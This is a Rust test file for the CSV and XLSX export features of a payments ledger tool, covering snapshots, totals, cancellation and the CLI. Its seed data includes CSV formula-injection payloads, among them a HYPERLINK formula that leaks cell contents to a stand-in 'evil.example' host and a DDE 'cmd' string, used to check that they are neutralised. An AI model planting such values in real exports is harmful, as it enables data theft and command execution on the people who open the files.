//! Exports (issue 10): exact bytes of small CSV exports (snapshots in tests/snapshots/,
//! regenerate with `UPDATE_SNAPSHOTS=1 cargo test --test export`), XLSX read back with
//! calamine and its sheet XML checked, formula injection with hostile order numbers and
//! customer names, totals against sums computed here with plain SQL, cancel, and the CLI.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::Ordering;

use calamine::{Data, Reader, Xlsx, open_workbook};
use daftar::Ledger;
use daftar::export::{CurrencyTotals, ExportRequest, ExportSummary};
use daftar::sources::{FixedClock, SequentialKeys};
use daftar::store::Store;
use rusqlite::{Connection, params};
use serde_json::Value;

/// 2026-11-03T10:00:00Z.
const NOV_3: i64 = 1_793_700_000_000;
const HOUR: i64 = 3_600_000;

struct Env {
    dir: tempfile::TempDir,
    db: PathBuf,
    ledger: Ledger,
}

fn env() -> Env {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("ledger.sqlite3");
    let store = Store::open(&db).unwrap();
    let mut ledger = Ledger::with_sources(
        store,
        Arc::new(FixedClock::new(NOV_3)),
        Arc::new(SequentialKeys::new()),
        "cli:tester",
    );
    ledger
        .add_profile("shop", "https://sandbox.ottu.net", "KWD")
        .unwrap();
    ledger
        .add_profile("other", "https://other.ottu.net", "USD")
        .unwrap();
    Env { dir, db, ledger }
}

impl Env {
    fn conn(&mut self) -> &mut Connection {
        self.ledger.store().connection()
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn export(
        &self,
        what: &str,
        format: &str,
        name: &str,
        tweak: impl FnOnce(&mut ExportRequest),
    ) -> (ExportSummary, PathBuf) {
        let path = self.path(name);
        let mut request = ExportRequest::new(what, format, &path);
        tweak(&mut request);
        let summary = self.ledger.export(&request).expect("export");
        (summary, path)
    }
}

fn profile_id(conn: &Connection, name: &str) -> i64 {
    conn.query_row("SELECT id FROM profiles WHERE name = ?1", [name], |r| {
        r.get(0)
    })
    .unwrap()
}

struct P<'a> {
    profile: &'a str,
    session: &'a str,
    order: Option<&'a str>,
    minor: i64,
    currency: &'a str,
    state: &'a str,
    at: i64,
    customer: Option<&'a str>,
    email: Option<&'a str>,
    hidden: bool,
}

fn payment(conn: &Connection, p: P<'_>) -> i64 {
    let profile = profile_id(conn, p.profile);
    conn.execute(
        "INSERT INTO payments (profile_id, session_id, order_no, amount_minor, currency, state,
            hidden, source, pg_code, customer_reference, created_at_ms, updated_at_ms,
            customer_email, reference_number)
         VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, 'ottu', 'knet', ?8, ?9, ?9, ?10, ?11)",
        params![
            profile,
            p.session,
            p.order,
            p.minor,
            p.currency,
            p.state,
            p.hidden as i64,
            p.customer,
            p.at,
            p.email,
            format!("RRN-{}", p.session)
        ],
    )
    .unwrap();
    conn.last_insert_rowid()
}

#[allow(clippy::too_many_arguments)]
fn child(
    conn: &Connection,
    payment: i64,
    op: Option<i64>,
    kind: &str,
    session: &str,
    minor: i64,
    currency: &str,
    state: &str,
    at: i64,
) {
    conn.execute(
        "INSERT INTO children (payment_id, operation_id, kind, session_id, amount_minor, currency,
            state, created_at_ms, updated_at_ms) VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?8)",
        params![payment, op, kind, session, minor, currency, state, at],
    )
    .unwrap();
}

#[allow(clippy::too_many_arguments)]
fn operation(
    conn: &Connection,
    payment: i64,
    kind: &str,
    amount: Option<i64>,
    reserved: i64,
    status: &str,
    at: i64,
    reason: Option<&str>,
) -> i64 {
    conn.execute(
        "INSERT INTO operations (payment_id, kind, amount_minor, reserved_minor, tracking_key,
            status, requested_by, reason, created_at_ms, updated_at_ms, seq)
         VALUES (?1, ?2, ?3, ?4, ?5, ?6, 'cli:amal', ?7, ?8, ?8, NULL)",
        params![
            payment,
            kind,
            amount,
            reserved,
            format!("tk-{payment}-{kind}-{at}"),
            status,
            reason,
            at
        ],
    )
    .unwrap();
    conn.last_insert_rowid()
}

const HOSTILE_ORDER: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")";
const HOSTILE_NAMES: &[&str] = &["+cmd|' /C calc'!A0", "-1+2", "@SUM(1)", "\t=1", "\r=2+3"];

/// A small ledger with every kind of row: paid, refunded (refund child), an authorization
/// with a capture and a queued refund, a voided one, a rejected refund, USD, a hidden
/// payment and one outside November; hostile order numbers and customer names; Arabic.
fn seed(e: &mut Env) {
    let c = e.conn();
    let base = |session, minor, state, at| P {
        profile: "shop",
        session,
        order: None,
        minor,
        currency: "KWD",
        state,
        at,
        customer: None,
        email: None,
        hidden: false,
    };
    payment(
        c,
        P {
            order: Some("ORD-1"),
            customer: Some("محمد عبدالله، شركة الخليج"),
            email: Some("amal@example.com"),
            ..base("s-001", 12_500, "paid", NOV_3)
        },
    );
    let p2 = payment(
        c,
        P {
            order: Some(HOSTILE_ORDER),
            customer: Some(HOSTILE_NAMES[0]),
            ..base("s-002", 5_000, "refunded", NOV_3 + HOUR)
        },
    );
    child(
        c,
        p2,
        None,
        "refund",
        "s-002-r1",
        5_000,
        "KWD",
        "refunded",
        NOV_3 + 2 * HOUR,
    );
    let p3 = payment(
        c,
        P {
            order: Some("-1+2"),
            customer: Some(HOSTILE_NAMES[1]),
            ..base("s-003", 20_000, "authorized", NOV_3 + 3 * HOUR)
        },
    );
    let cap = operation(
        c,
        p3,
        "capture",
        Some(8_000),
        0,
        "succeeded",
        NOV_3 + 4 * HOUR,
        None,
    );
    child(
        c,
        p3,
        Some(cap),
        "capture",
        "s-003-c1",
        8_000,
        "KWD",
        "paid",
        NOV_3 + 4 * HOUR,
    );
    operation(
        c,
        p3,
        "refund",
        Some(2_000),
        2_000,
        "queued",
        NOV_3 + 5 * HOUR,
        Some("@customer asked"),
    );
    payment(
        c,
        P {
            profile: "other",
            currency: "USD",
            customer: Some(HOSTILE_NAMES[2]),
            email: Some("=1+1@example.com"),
            ..base("s-004", 725, "paid", NOV_3 + 6 * HOUR)
        },
    );
    payment(
        c,
        P {
            customer: Some(HOSTILE_NAMES[3]),
            ..base("s-005", 3_000, "failed", NOV_3 + 7 * HOUR)
        },
    );
    payment(
        c,
        P {
            hidden: true,
            ..base("s-006", 100_000, "paid", NOV_3 + 8 * HOUR)
        },
    );
    let p7 = payment(
        c,
        P {
            customer: Some(HOSTILE_NAMES[4]),
            ..base("s-007", 10_000, "voided", NOV_3 + 9 * HOUR)
        },
    );
    child(
        c,
        p7,
        None,
        "void",
        "s-007-v1",
        10_000,
        "KWD",
        "voided",
        NOV_3 + 10 * HOUR,
    );
    let p8 = payment(c, base("s-008", 1_000, "paid", NOV_3 + 11 * HOUR));
    let rej = operation(c, p8, "refund", None, 0, "failed", NOV_3 + 12 * HOUR, None);
    child(
        c,
        p8,
        Some(rej),
        "refund",
        "s-008-r1",
        1_000,
        "KWD",
        "refund_rejected",
        NOV_3 + 12 * HOUR,
    );
    // December: outside a November period.
    payment(c, base("s-009", 2_250, "paid", NOV_3 + 40 * 24 * HOUR));
}

fn snapshot(name: &str, bytes: &[u8]) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/snapshots")
        .join(name);
    if std::env::var_os("UPDATE_SNAPSHOTS").is_some() {
        std::fs::write(&path, bytes).unwrap();
        return;
    }
    let expected = std::fs::read(&path)
        .unwrap_or_else(|e| panic!("{}: {e} (UPDATE_SNAPSHOTS=1 writes it)", path.display()));
    assert!(
        expected == bytes,
        "{name} differs from its snapshot:\n--- expected\n{}\n--- got\n{}",
        String::from_utf8_lossy(&expected),
        String::from_utf8_lossy(bytes)
    );
}

fn november(r: &mut ExportRequest) {
    r.from = Some("2026-11-01".into());
    r.to = Some("2026-11-30".into());
}

#[test]
fn csv_ledger_snapshots_en_ar_and_no_bom() {
    let mut e = env();
    seed(&mut e);
    let (summary, en) = e.export("ledger", "csv", "ledger-en.csv", november);
    let en = std::fs::read(en).unwrap();
    assert!(en.starts_with(b"\xEF\xBB\xBF"), "BOM by default");
    assert!(en.ends_with(b"\r\n"));
    // CRLF after each record: header, 7 payments, a total per currency (KWD, USD).
    let text = String::from_utf8_lossy(&en);
    assert_eq!(text.matches("\r\n").count(), 10);
    assert_eq!(text.matches('\n').count(), 10);
    snapshot("export_ledger_en.csv", &en);
    assert_eq!(summary.rows, 7, "hidden and December payments left out");
    assert_eq!(summary.what, "ledger");
    assert_eq!(summary.format, "csv");

    let (_, ar) = e.export("ledger", "csv", "ledger-ar.csv", |r| {
        november(r);
        r.lang = Some("ar".into());
    });
    let ar = std::fs::read(ar).unwrap();
    snapshot("export_ledger_ar.csv", &ar);
    assert!(
        String::from_utf8(ar.clone())
            .unwrap()
            .contains("رقم الجلسة,رقم الطلب")
    );

    let (_, plain) = e.export("ledger", "csv", "ledger-nobom.csv", |r| {
        november(r);
        r.bom = false;
    });
    let plain = std::fs::read(plain).unwrap();
    snapshot("export_ledger_en_nobom.csv", &plain);
    assert_eq!(&en[3..], &plain[..], "the same bytes without the BOM");
}

#[test]
fn csv_operations_and_reconciliation_snapshots() {
    let mut e = env();
    seed(&mut e);
    let (summary, path) = e.export("operations", "csv", "ops.csv", |r| {
        r.profile = Some("shop".into())
    });
    snapshot("export_operations_en.csv", &std::fs::read(path).unwrap());
    assert_eq!(summary.rows, 5);
    reconciliation(&mut e);
    let (summary, path) = e.export("reconciliation", "csv", "rec.csv", |_| {});
    snapshot(
        "export_reconciliation_en.csv",
        &std::fs::read(path).unwrap(),
    );
    assert_eq!(summary.rows, 4);
    assert_eq!(
        summary.totals[0].paid, "17.500",
        "the totals the run stored"
    );
}

/// CSV text as records (BOM stripped), for assertions on cells.
fn records(path: &Path) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).unwrap();
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&bytes);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn csv_neutralises_hostile_text_but_never_numbers() {
    let mut e = env();
    seed(&mut e);
    let (_, path) = e.export("ledger", "csv", "l.csv", |_| {});
    let rows = records(&path);
    let header = &rows[0];
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let find = |session: &str| rows.iter().find(|r| r[0] == session).unwrap().clone();
    assert_eq!(find("s-002")[col("Order No")], format!("'{HOSTILE_ORDER}"));
    assert_eq!(
        find("s-002")[col("Customer Reference")],
        "'+cmd|' /C calc'!A0"
    );
    assert_eq!(find("s-003")[col("Order No")], "'-1+2");
    assert_eq!(find("s-004")[col("Customer Reference")], "'@SUM(1)");
    assert_eq!(find("s-004")[col("Customer Email")], "'=1+1@example.com");
    assert_eq!(find("s-005")[col("Customer Reference")], "'\t=1");
    assert_eq!(find("s-007")[col("Customer Reference")], "'\r=2+3");
    assert_eq!(
        find("s-001")[col("Customer Reference")],
        "محمد عبدالله، شركة الخليج"
    );
    // No cell anywhere starts with a formula character, except numbers.
    for row in &rows {
        for cell in row {
            if cell.parse::<f64>().is_ok() {
                continue;
            }
            assert!(
                !matches!(
                    cell.chars().next(),
                    Some('=' | '+' | '-' | '@' | '\t' | '\r')
                ),
                "unneutralised cell {cell:?}"
            );
        }
    }
    // Refunds are negative numbers in the operations export, never prefixed.
    let (_, ops) = e.export("operations", "csv", "o.csv", |_| {});
    let rows = records(&ops);
    let refund = rows.iter().find(|r| r[0] == "s-002-r1").unwrap();
    assert_eq!(refund[8], "-5.000");
    assert_eq!(refund[1], "s-002");
    assert_eq!(refund[2], format!("'{HOSTILE_ORDER}"));
    let queued = rows.iter().find(|r| r[6] == "queued").unwrap();
    assert_eq!(queued[8], "-2.000");
    assert_eq!(queued[12], "'@customer asked");
}

/// Totals computed here, independently, with plain SQL over the seeded tables.
fn sql_totals(
    conn: &Connection,
    profile: Option<&str>,
    from: i64,
    to: i64,
) -> Vec<(String, [i64; 5])> {
    let pid = profile.map(|p| profile_id(conn, p));
    let mut stmt = conn
        .prepare("SELECT DISTINCT currency FROM payments WHERE hidden = 0 ORDER BY currency")
        .unwrap();
    let currencies: Vec<String> = stmt
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    let q = |sql: &str, cur: &str| -> i64 {
        conn.query_row(
            &format!(
                "SELECT COALESCE(SUM(x), 0) FROM ({sql}) WHERE currency = ?1
                 AND (?2 IS NULL OR profile_id = ?2) AND created_at_ms >= ?3 AND created_at_ms < ?4"
            ),
            params![cur, pid, from, to],
            |r| r.get(0),
        )
        .unwrap()
    };
    let mut out = Vec::new();
    for cur in currencies {
        let pay = "SELECT p.*, p.amount_minor AS x FROM payments p WHERE hidden = 0 AND state IN ('paid','refunded')";
        let cap_auth = "SELECT p.*, c.amount_minor AS x FROM children c JOIN payments p ON p.id = c.payment_id
                        WHERE p.hidden = 0 AND c.kind = 'capture' AND c.state = 'paid' AND p.state NOT IN ('paid','refunded')";
        let cap =
            "SELECT p.*, c.amount_minor AS x FROM children c JOIN payments p ON p.id = c.payment_id
                   WHERE p.hidden = 0 AND c.kind = 'capture' AND c.state = 'paid'";
        let refd = "SELECT p.*, c.amount_minor AS x FROM children c JOIN payments p ON p.id = c.payment_id
                    WHERE p.hidden = 0 AND c.kind = 'refund' AND c.state IN ('refunded','refund_queued')";
        let void =
            "SELECT p.*, c.amount_minor AS x FROM children c JOIN payments p ON p.id = c.payment_id
                    WHERE p.hidden = 0 AND c.kind = 'void' AND c.state = 'voided'";
        let pend = "SELECT p.*, o.reserved_minor AS x FROM operations o JOIN payments p ON p.id = o.payment_id
                    WHERE p.hidden = 0 AND o.status IN ('queued','in_flight','needs_attention','blocked')";
        let t = [
            q(pay, &cur) + q(cap_auth, &cur),
            q(cap, &cur),
            q(refd, &cur),
            q(void, &cur),
            q(pend, &cur),
        ];
        if t.iter().any(|&v| v != 0)
            || q("SELECT p.*, 1 AS x FROM payments p WHERE hidden = 0", &cur) > 0
        {
            out.push((cur, t));
        }
    }
    out
}

fn minor(text: &str) -> i64 {
    let (int, frac) = text.split_once('.').unwrap_or((text, ""));
    let neg = int.starts_with('-');
    let digits = format!("{}{}", int.trim_start_matches('-'), frac);
    let v: i64 = digits.parse().unwrap();
    if neg { -v } else { v }
}

fn as_minor(t: &CurrencyTotals) -> (String, [i64; 5]) {
    (
        t.currency.clone(),
        [
            minor(&t.paid),
            minor(&t.captured),
            minor(&t.refunded),
            minor(&t.voided),
            minor(&t.pending),
        ],
    )
}

#[test]
fn totals_match_independent_sql_sums_and_the_rows_above_them() {
    let mut e = env();
    seed(&mut e);
    for (profile, from, to) in [
        (None, None, None),
        (Some("shop"), None, None),
        (None, Some("2026-11-01"), Some("2026-11-30")),
        (
            Some("shop"),
            Some("2026-11-03T12:00:00Z"),
            Some("2026-12-31"),
        ),
    ] {
        let (summary, path) = e.export("ledger", "csv", "t.csv", |r| {
            r.profile = profile.map(str::to_string);
            r.from = from.map(str::to_string);
            r.to = to.map(str::to_string);
        });
        let from_ms = from.map_or(i64::MIN, |f| {
            if f.len() == 10 {
                day_ms(f)
            } else {
                NOV_3 + 2 * HOUR
            }
        });
        let to_ms = to.map_or(i64::MAX, |t| day_ms(t) + 24 * HOUR);
        let expected = sql_totals(e.conn(), profile, from_ms, to_ms);
        let got: Vec<_> = summary.totals.iter().map(as_minor).collect();
        assert_eq!(got, expected, "{profile:?} {from:?} {to:?}");
        // The CSV's total rows carry the same numbers, and they are the columns' sums.
        let rows = records(&path);
        for (cur, t) in &expected {
            let total = rows
                .iter()
                .find(|r| r[0] == "total" && r[5] == *cur)
                .unwrap();
            let cells: Vec<i64> = (7..=11).map(|i| minor(&total[i])).collect();
            assert_eq!(cells, t.to_vec());
            for (k, i) in (7..=11).enumerate() {
                let sum: i64 = rows[1..]
                    .iter()
                    .filter(|r| r[0] != "total" && r[5] == *cur)
                    .map(|r| minor(&r[i]))
                    .sum();
                assert_eq!(sum, t[k], "column {i} of {cur}");
            }
        }
    }
}

fn day_ms(day: &str) -> i64 {
    let d = time::Date::parse(
        day,
        time::macros::format_description!("[year]-[month]-[day]"),
    )
    .unwrap();
    d.midnight().assume_utc().unix_timestamp() * 1000
}

fn reconciliation(e: &mut Env) -> i64 {
    let c = e.conn();
    let shop = profile_id(c, "shop");
    let summary = serde_json::json!({
        "classes": [],
        "totals": [{"currency": "KWD", "paid": "17.500", "captured": "8.000", "refunded": "5.000",
                    "voided": "10.000", "pending": "2.000", "fees": null}],
        "report_totals": [{"currency": "KWD", "paid": "18.000", "captured": "8.000", "refunded": "5.000",
                    "voided": "10.000", "pending": "0.000", "fees": null}]
    });
    c.execute(
        "INSERT INTO reconciliations (profile_id, from_ms, to_ms, source, created_at_ms, actor, summary_json)
         VALUES (?1, ?2, ?3, '-report=evil.csv', ?4, 'cli:amal', ?5)",
        params![shop, day_ms("2026-11-01"), day_ms("2026-12-01"), NOV_3 + 30 * 24 * HOUR, summary.to_string()],
    )
    .unwrap();
    let id = c.last_insert_rowid();
    let side = |minor: i64, state: &str| {
        serde_json::json!({"amount_minor": minor, "currency": "KWD", "state": state}).to_string()
    };
    for (class, session, order, ledger, report, decision) in [
        (
            "matched",
            Some("s-001"),
            Some("ORD-1"),
            Some(side(12_500, "paid")),
            Some(side(12_500, "paid")),
            None,
        ),
        (
            "amount_differs",
            Some("s-008"),
            None,
            Some(side(1_000, "paid")),
            Some(side(1_500, "paid")),
            Some("accepted"),
        ),
        (
            "report_only",
            Some("s-x"),
            Some(HOSTILE_ORDER),
            None,
            Some(side(4_000, "paid")),
            None,
        ),
        (
            "ledger_only",
            Some("s-005"),
            None,
            Some(side(3_000, "failed")),
            None,
            Some("kept"),
        ),
    ] {
        c.execute(
            "INSERT INTO reconciliation_items (reconciliation_id, class, session_id, order_no, currency,
                ledger_json, report_json, decision, decided_at_ms, decided_by)
             VALUES (?1, ?2, ?3, ?4, 'KWD', ?5, ?6, ?7, ?8, ?9)",
            params![
                id, class, session, order, ledger, report, decision,
                decision.map(|_| NOV_3 + 31 * 24 * HOUR),
                decision.map(|_| "cli:amal")
            ],
        )
        .unwrap();
    }
    id
}

fn sheet(path: &Path, name: &str) -> Vec<Vec<Data>> {
    let mut wb: Xlsx<_> = open_workbook(path).unwrap();
    let range = wb.worksheet_range(name).unwrap();
    range.rows().map(|r| r.to_vec()).collect()
}

fn zip_entry(path: &Path, name: &str) -> String {
    let file = std::fs::File::open(path).unwrap();
    let mut zip = zip::ZipArchive::new(file).unwrap();
    let mut entry = zip.by_name(name).unwrap();
    let mut text = String::new();
    std::io::Read::read_to_string(&mut entry, &mut text).unwrap();
    text
}

#[test]
fn xlsx_is_typed_arabic_intact_frozen_filtered_and_deterministic() {
    let mut e = env();
    seed(&mut e);
    let (summary, path) = e.export("ledger", "xlsx", "l.xlsx", |r| r.lang = Some("ar".into()));
    assert_eq!(summary.rows, 8);
    let rows = sheet(&path, "Ledger");
    assert_eq!(rows[0][0], Data::String("رقم الجلسة".into()));
    assert_eq!(rows[0][6], Data::String("المبلغ".into()));
    let row = |session: &str| {
        rows.iter()
            .find(|r| r[0] == Data::String(session.into()))
            .unwrap()
    };
    // Amounts are numbers, exactly; instants are date-times; Arabic text intact.
    assert_eq!(row("s-001")[6], Data::Float(12.5));
    assert_eq!(row("s-004")[6], Data::Float(7.25));
    assert_eq!(
        row("s-003")[7],
        Data::Float(8.0),
        "paid = captured for an authorization"
    );
    match &row("s-001")[3] {
        Data::DateTime(dt) => {
            let expected = 25_569.0 + NOV_3 as f64 / 86_400_000.0;
            assert!((dt.as_f64() - expected).abs() < 1e-9, "{}", dt.as_f64());
        }
        other => panic!("created is {other:?}"),
    }
    assert_eq!(
        row("s-001")[16],
        Data::String("محمد عبدالله، شركة الخليج".into())
    );
    // The hostile text reads back as it was (no visible apostrophe)...
    assert_eq!(row("s-002")[1], Data::String(HOSTILE_ORDER.into()));
    assert_eq!(row("s-005")[16], Data::String("\t=1".into()));
    // ...and totals follow after a blank row.
    let total = rows
        .iter()
        .find(|r| r[0] == Data::String("total".into()) && r[5] == Data::String("KWD".into()))
        .unwrap();
    assert_eq!(
        total[7],
        Data::Float(28.75),
        "paid: 12.5 + 5 + 8 captured + 1 + 2.25, the hidden payment left out"
    );

    let xml = zip_entry(&path, "xl/worksheets/sheet1.xml");
    assert!(
        xml.contains(
            r#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#
        ),
        "{xml}"
    );
    assert!(
        xml.contains(r#"<autoFilter ref="A1:S9"/>"#),
        "filter over header + 8 rows"
    );
    assert!(xml.contains(r#"rightToLeft="1""#));
    assert!(!xml.contains("<f>"), "no formula anywhere");
    let styles = zip_entry(&path, "xl/styles.xml");
    assert!(styles.contains(r#"quotePrefix="1""#));
    assert!(styles.contains(r##"formatCode="#,##0.000""##));
    assert!(styles.contains(r##"formatCode="#,##0.00""##));
    assert!(
        !styles.contains(r##"formatCode="#,##0""##),
        "a format is registered only when a cell uses it (no JPY here)"
    );
    // The hostile cells use the quote-prefix style.
    let xf_with_prefix = styles
        .split("<cellXfs")
        .nth(1)
        .unwrap()
        .split("<xf ")
        .skip(1)
        .position(|xf| xf.contains("quotePrefix=\"1\""))
        .unwrap();
    assert!(
        xml.contains(&format!(
            r#" s="{xf_with_prefix}" t="inlineStr"><is><t>=HYPERLINK"#
        )) || xml.contains(&format!(r#" s="{xf_with_prefix}" t="s""#)),
        "{xml}"
    );

    // Same request, same bytes.
    let (_, again) = e.export("ledger", "xlsx", "l2.xlsx", |r| r.lang = Some("ar".into()));
    assert_eq!(
        std::fs::read(&path).unwrap(),
        std::fs::read(&again).unwrap()
    );
}

#[test]
fn xlsx_reconciliation_has_a_summary_sheet() {
    let mut e = env();
    seed(&mut e);
    let id = reconciliation(&mut e);
    let (summary, path) = e.export("reconciliation", "xlsx", "r.xlsx", |r| {
        r.reconciliation = Some(id)
    });
    assert_eq!(summary.rows, 4);
    let wb: Xlsx<_> = open_workbook(&path).unwrap();
    assert_eq!(
        wb.sheet_names(),
        vec!["Summary".to_string(), "Items".to_string()]
    );
    let s = sheet(&path, "Summary");
    assert_eq!(s[0][0], Data::String("Reconciliation".into()));
    assert_eq!(s[0][1], Data::Float(id as f64));
    assert_eq!(s[4][1], Data::String("-report=evil.csv".into()));
    let class = |name: &str| {
        s.iter()
            .find(|r| r[0] == Data::String(name.into()))
            .unwrap()
            .clone()
    };
    assert_eq!(class("amount_differs")[2], Data::Float(1.0));
    assert_eq!(class("amount_differs")[3], Data::Float(1.0));
    assert_eq!(class("amount_differs")[4], Data::Float(1.5));
    let totals: Vec<_> = s
        .iter()
        .filter(|r| r[0] == Data::String("total".into()))
        .collect();
    assert_eq!(totals.len(), 2, "ledger and report totals");
    assert_eq!(totals[0][2], Data::Float(17.5));
    assert_eq!(totals[1][2], Data::Float(18.0));
    let items = sheet(&path, "Items");
    let differs = items
        .iter()
        .find(|r| {
            r[1] == Data::String("amount_differs".into()) && r[0] != Data::String("total".into())
        })
        .unwrap();
    assert_eq!(differs[9], Data::Float(0.5), "difference = report - ledger");
    assert_eq!(differs[10], Data::String("accepted".into()));
}

#[test]
fn cancel_leaves_no_file_and_errors_leave_the_target_alone() {
    let mut e = env();
    {
        let c = e.conn();
        let shop = profile_id(c, "shop");
        let tx = c.transaction().unwrap();
        for i in 0..10_000 {
            tx.execute(
                "INSERT INTO payments (profile_id, session_id, amount_minor, currency, state, source,
                    created_at_ms, updated_at_ms) VALUES (?1, ?2, 1000, 'KWD', 'paid', 'ottu', ?3, ?3)",
                params![shop, format!("bulk-{i}"), NOV_3 + i],
            )
            .unwrap();
        }
        tx.commit().unwrap();
    }
    let target = e.path("big.csv");
    std::fs::write(&target, b"previous").unwrap();
    let job = e
        .ledger
        .export_job(ExportRequest::new("ledger", "csv", &target))
        .unwrap();
    let cancel = job.cancel_flag();
    let mut seen = Vec::new();
    let result = job.run(|p| {
        seen.push(*p);
        if p.rows > 0 {
            cancel.store(true, Ordering::SeqCst);
        }
    });
    let error = result.unwrap_err();
    assert_eq!(error.code(), "interrupted");
    assert_eq!(seen[0].total, 10_000);
    assert_eq!(
        std::fs::read(&target).unwrap(),
        b"previous",
        "the target is untouched"
    );
    let leftovers: Vec<_> = std::fs::read_dir(e.dir.path())
        .unwrap()
        .map(|d| d.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("partial"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");

    // A completed run reports progress up to the total and replaces the file.
    let job = e
        .ledger
        .export_job(ExportRequest::new("ledger", "xlsx", &target))
        .unwrap();
    let mut last = None;
    let summary = job.run(|p| last = Some(*p)).unwrap();
    assert_eq!(summary.rows, 10_000);
    assert_eq!(last.unwrap().rows, 10_000);
    assert!(std::fs::read(&target).unwrap().starts_with(b"PK\x03\x04"));

    // Refused before anything is written.
    let bad = |r: ExportRequest| e.ledger.export(&r).unwrap_err().code().to_string();
    assert_eq!(
        bad(ExportRequest::new("payments", "csv", &target)),
        "input.unknown_word"
    );
    assert_eq!(
        bad(ExportRequest::new("ledger", "pdf", &target)),
        "input.unknown_word"
    );
    assert_eq!(
        bad(ExportRequest::new("ledger", "csv", &e.db)),
        "export.bad_path"
    );
    assert_eq!(
        bad(ExportRequest::new(
            "ledger",
            "csv",
            e.path("no/such/dir/x.csv")
        )),
        "export.write_failed"
    );
    assert_eq!(
        bad(ExportRequest {
            from: Some("yesterday".into()),
            ..ExportRequest::new("ledger", "csv", &target)
        }),
        "date.invalid"
    );
    assert_eq!(
        bad(ExportRequest {
            profile: Some("nobody".into()),
            ..ExportRequest::new("ledger", "csv", &target)
        }),
        "not_found"
    );
    assert_eq!(
        bad(ExportRequest::new("reconciliation", "csv", &target)),
        "not_found"
    );
    assert!(std::fs::read(&target).unwrap().starts_with(b"PK\x03\x04"));
}

fn cli(e: &Env, args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_daftar"))
        .arg("--db")
        .arg(&e.db)
        .args(args)
        .env("DAFTAR_LOG_DIR", e.dir.path().join("logs"))
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn cli_export_json_and_exit_codes() {
    let mut e = env();
    seed(&mut e);
    let out = e.path("cli.csv");
    let out_s = out.to_str().unwrap();
    let (code, stdout, stderr) = cli(
        &e,
        &[
            "export",
            "ledger",
            "--format",
            "csv",
            "--profile",
            "shop",
            "--from",
            "2026-11-01",
            "--to",
            "2026-11-30",
            "--no-bom",
            "-o",
            out_s,
            "--json",
        ],
    );
    assert_eq!(code, 0, "{stderr}");
    let json: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(json["what"], "ledger");
    assert_eq!(json["format"], "csv");
    assert_eq!(json["rows"], 6);
    assert_eq!(json["file"], out_s);
    assert_eq!(json["totals"][0]["currency"], "KWD");
    assert_eq!(json["totals"][0]["paid"], "26.500");
    assert_eq!(json["totals"][0]["fees"], Value::Null);
    assert!(!std::fs::read(&out).unwrap().starts_with(b"\xEF\xBB\xBF"));
    assert!(
        stderr.is_empty(),
        "no bar when stderr is not a terminal: {stderr}"
    );

    let (code, stdout, _) = cli(
        &e,
        &[
            "export",
            "operations",
            "--format",
            "xlsx",
            "--lang",
            "ar",
            "-o",
            e.path("o.xlsx").to_str().unwrap(),
        ],
    );
    assert_eq!(code, 0);
    assert!(stdout.starts_with("Wrote 5 operations rows to"), "{stdout}");

    let (code, stdout, _) = cli(
        &e,
        &["export", "ledger", "--format", "pdf", "-o", out_s, "--json"],
    );
    assert_eq!(code, 2);
    let json: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(json["error"]["code"], "usage.invalid_value");
    let (code, _, _) = cli(
        &e,
        &[
            "export",
            "ledger",
            "--format",
            "csv",
            "--profile",
            "nobody",
            "-o",
            out_s,
        ],
    );
    assert_eq!(code, 4);
    let (code, stdout, _) = cli(
        &e,
        &[
            "export", "ledger", "--format", "csv", "--from", "soon", "-o", out_s, "--json",
        ],
    );
    assert_eq!(code, 2);
    assert_eq!(
        serde_json::from_str::<Value>(&stdout).unwrap()["error"]["code"],
        "date.invalid"
    );
    let (code, _, _) = cli(
        &e,
        &[
            "export",
            "reconciliation",
            "--format",
            "csv",
            "--reconciliation",
            "99",
            "-o",
            out_s,
        ],
    );
    assert_eq!(code, 4);
    let (code, _, _) = cli(
        &e,
        &[
            "export",
            "ledger",
            "--format",
            "csv",
            "-o",
            e.path("missing/x.csv").to_str().unwrap(),
        ],
    );
    assert_eq!(code, 1);
}

#[test]
fn xlsx_amounts_no_double_holds_are_exact_text() {
    let mut e = env();
    let c = e.conn();
    let base = |session, minor, currency| P {
        profile: "shop",
        session,
        order: None,
        minor,
        currency,
        state: "paid",
        at: NOV_3,
        customer: None,
        email: None,
        hidden: false,
    };
    // 16 significant digits: the nearest double is 9999999999999.998046875.
    payment(c, base("huge", 9_999_999_999_999_999, "KWD"));
    payment(c, base("yen", 1_234_567, "JPY"));
    let (_, path) = e.export("ledger", "xlsx", "h.xlsx", |_| {});
    let rows = sheet(&path, "Ledger");
    let row = |s: &str| {
        rows.iter()
            .find(|r| r[0] == Data::String(s.into()))
            .unwrap()
            .clone()
    };
    assert_eq!(row("huge")[6], Data::String("9999999999999.999".into()));
    assert_eq!(row("yen")[6], Data::Float(1_234_567.0));
    let styles = zip_entry(&path, "xl/styles.xml");
    assert!(
        styles.contains(r##"formatCode="#,##0""##),
        "JPY has no decimals"
    );
    // The CSV holds the same exact text.
    let (_, csv_path) = e.export("ledger", "csv", "h.csv", |_| {});
